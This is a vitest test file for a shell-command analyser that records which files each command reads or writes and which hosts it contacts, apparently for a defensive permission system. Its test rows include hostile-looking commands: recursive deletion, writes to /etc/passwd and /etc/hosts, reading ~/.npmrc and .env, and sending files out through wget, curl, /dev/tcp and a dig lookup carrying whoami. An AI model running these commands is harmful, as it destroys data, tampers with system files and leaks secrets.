import { beforeAll, describe, expect, it } from "vitest";
import { analyseShell, loadShellParser } from "../../../src/rules/shell/analyse.ts";

beforeAll(loadShellParser);

type Row = readonly [
  line: string,
  reads: readonly string[],
  writes: readonly string[],
  connects: readonly string[],
];

const ROWS: readonly Row[] = [
  ["cat a b", ["a", "b"], [], []],
  ["head -n 5 a", ["a"], [], []],
  ["grep -n foo a b", ["a", "b"], [], []],
  ["grep -e foo a", ["a"], [], []],
  ["sed -n 1p a", ["a"], [], []],
  ["sed -i s/a/b/ a", [], ["a"], []],
  ["cp a b dir/", ["a", "b"], ["dir/"], []],
  ["cp -t dir a", ["a"], ["dir"], []],
  ["mv a b", [], ["b", "a"], []],
  ["rm -rf a ~/b ../c", [], ["a", "~/b", "../c"], []],
  ["tee -a log < in", ["in"], ["log"], []],
  ["echo x >> out 2> err", [], ["out", "err"], []],
  ["dd if=a of=b bs=1M", ["a"], ["b"], []],
  ["tar czf x.tgz src", ["src"], ["x.tgz"], []],
  ["tar -xf x.tgz -C out", ["x.tgz"], ["out"], []],
  ["chmod +x a", [], ["a"], []],
  ["chmod -x a b", [], ["b", "a"], []],
  ["chmod -R -rw a", [], ["a"], []],
  ["chmod -v u-x a", [], ["a"], []],
  ["truncate -s 0 a", [], ["a"], []],
  ["find . -name '*.tmp' -exec rm {} +", [], ["./**/*.tmp"], []],
  ["find . -fprintf /etc/passwd x", [], ["/etc/passwd"], []],
  ["python3 -c \"open('/etc/hosts','w').write('x')\"", ["/etc/hosts"], ["/etc/hosts"], []],
  [
    "cd sub && node -e \"fs.writeFileSync('a.json', fs.readFileSync('b.json'))\"",
    ["a.json", "b.json"],
    ["sub/a.json"],
    [],
  ],
  ["awk '{ print > \"/etc/hosts\" }' x", ["x", "/etc/hosts"], ["/etc/hosts"], []],
  ["sed -n '1,5w /etc/hosts' x", ["x"], ["/etc/hosts"], []],
  ["sed 's/a/b/gw /etc/hosts' x", ["x"], ["/etc/hosts"], []],
  ["sed -e 'r /etc/hosts' x", ["x", "/etc/hosts"], [], []],
  ["git diff --output=/etc/hosts", [], ["/etc/hosts"], []],
  ["git archive -o out/a.tar HEAD", [], ["out/a.tar"], []],
  ["sort --files0-from=/etc/hosts", ["/etc/hosts"], [], []],
  ["split notes parts/x", ["notes"], ["parts/x"], []],
  ["iconv -f utf8 -o b.txt a.txt", ["a.txt"], ["b.txt"], []],
  ["gcc a.c -o /etc/hosts", ["a.c"], ["/etc/hosts"], []],
  ["yq -i .a /etc/hosts", [], ["/etc/hosts"], []],
  ["ed /etc/hosts", [], ["/etc/hosts"], []],
  ["shuf /etc/hosts", ["/etc/hosts"], [], []],
  ["curl file:///etc/hosts", ["/etc/hosts"], [], []],
  ["cd /srv && cat a ../b /c", ["/srv/a", "/srv/../b", "/c"], [], []],
  ["(cd sub; cat a); cat b", ["sub/a", "b"], [], []],
  ['cat "$HOME/.npmrc"', ["~/.npmrc"], [], []],
  ["source .env", [".env"], [], []],
  ["curl -o out https://a.example/x", [], ["out"], ["a.example"]],
  ["curl -O https://a.example/x.zip", [], ["x.zip"], ["a.example"]],
  ["curl -d @body -F f=@pic A.example:8080", ["body", "pic"], [], ["a.example"]],
  ["wget --post-file=f https://u:p@b.example/", ["f"], ["index.html"], ["b.example"]],
  ["nc -w 3 c.example 80", [], [], ["c.example"]],
  ["scp -P 22 a u@d.example:b", ["a"], [], ["d.example"]],
  ["rsync -a src/ dst/", ["src/"], ["dst/"], []],
  ["ssh -i key u@e.example ls", ["key"], [], ["e.example"]],
  ["dig +short f.example @1.1.1.1", [], [], ["f.example", "1.1.1.1"]],
  ["dig $(whoami).g.example", [], [], ["*.g.example"]],
  ["git clone https://h.example/r.git", [], ["r"], ["h.example"]],
  ["cat a > /dev/tcp/i.example/80", ["a"], [], ["i.example"]],
  ["exec 3<>/dev/tcp/j.example/80; cat a >&3", ["a"], [], ["j.example"]],
  ["aws s3 cp a s3://bucket/", ["a"], [], ["bucket"]],
  ["python3 -c \"open('/etc/hosts')\"", ["/etc/hosts"], [], []],
  ["node -e \"fetch('https://k.example/x')\"", [], [], ["k.example"]],
];

describe("what a command touches", () => {
  it.each(ROWS)("what a command touches is known: %s", (line, reads, writes, connects) => {
    const found = analyseShell(line);
    expect({ reads: found.reads, writes: found.writes, connects: found.connects }).toEqual({
      reads,
      writes,
      connects,
    });
  });
});
